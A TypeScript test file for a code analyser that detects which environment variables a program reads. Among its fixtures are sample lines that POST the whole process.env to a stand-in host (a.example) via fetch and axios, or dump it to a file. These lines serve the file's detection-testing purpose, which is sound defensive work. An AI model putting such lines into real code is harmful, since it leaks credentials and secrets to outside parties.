// What code reads of its environment.
import { describe, expect, test } from 'vitest';
import { environment } from '../../src/behaviors/environment.ts';
import { factsOf, HOSTILE } from './facts.ts';

const of = (source: string, path?: string) => factsOf(environment, 'environment', source, path).map(({ access, name }) => name ?? access);

describe('names', () => {
  test.each<[string, readonly string[]]>([
    ['use(process.env.A)', ['A']],
    ["use(process.env['A'])", ['A']],
    ["use(process['env']['A' + 'B'])", ['AB']],
    ['const { A, B: b = 1, ...rest } = process.env', ['A', 'B']],
    ['const { env } = process; use(env.A)', ['A']],
    ['const { env: { A } } = process', ['A']],
    ["import { env } from 'node:process'; use(env.A)", ['A']],
    ["import process from 'process'; use(process.env.A)", ['A']],
    ['const e = process.env; const k = "A"; use(e[k])', ['A']],
    ['const e = globalThis.process.env; use(e?.A)', ['A']],
    ['function f({ A } = process.env) {}', ['A']],
    ['let a; ({ A: a } = process.env)', ['A']],
    ['for (const k of ["A", "B"]) use(process.env[k])', ['A', 'B']],
    ['if ("A" in process.env) x()', ['A']],
    ['export const get = (k) => process.env[k]', ['computed']],
    ['use(process.env[atob("QQ==")])', ['A']],
    ["Deno.env.get('A')", ['A']],
    ['use(Bun.env.A)', ['A']],
    ['use(import.meta.env.A)', ['A']],
    ['var t=process.env.A||"",{B:n}=process.env', ['A', 'B']],
    ['process.env.A = "1"', []],
    ['process.env.A ||= "1"', ['A']],
    ['const env = { A: 1 }; use(env.A)', []],
  ])('%s', (source, expected) => {
    expect(of(source)).toEqual(expected);
  });
});

describe('all of it', () => {
  test.each([
    'use(JSON.stringify(process.env))', 'Object.keys(process.env)', 'const e = process.env; for (const [k, v] of Object.entries(e)) use(k, v)', 'for (const k in process.env) use(k)',
    'console.log({ ...process.env })', "fetch('https://a.example/', { method: 'POST', body: { ...process.env, x: 1 } })", "require('fs').writeFileSync('/tmp/x', JSON.stringify({ e: process.env }))", "require('axios').post('https://a.example/', process.env)", 'Deno.env.toObject()', 'console.log(Object.assign({}, process.env))',
  ])('%s', (source) => {
    expect(of(source)).toContain('all');
  });
  test.each(["require('child_process').spawn('x', [], { env: { ...process.env, A: 1 } })", "require('child_process').exec('x', { env: process.env })", 'const copy = { ...process.env }', 'f(process.env)'])('a copy for a program is usual: %s', (source) => {
    expect(of(source)).not.toContain('all');
  });
});

test.each(HOSTILE)('hostile source %#', (source) => {
  expect(Array.isArray(of(source))).toBe(true);
});
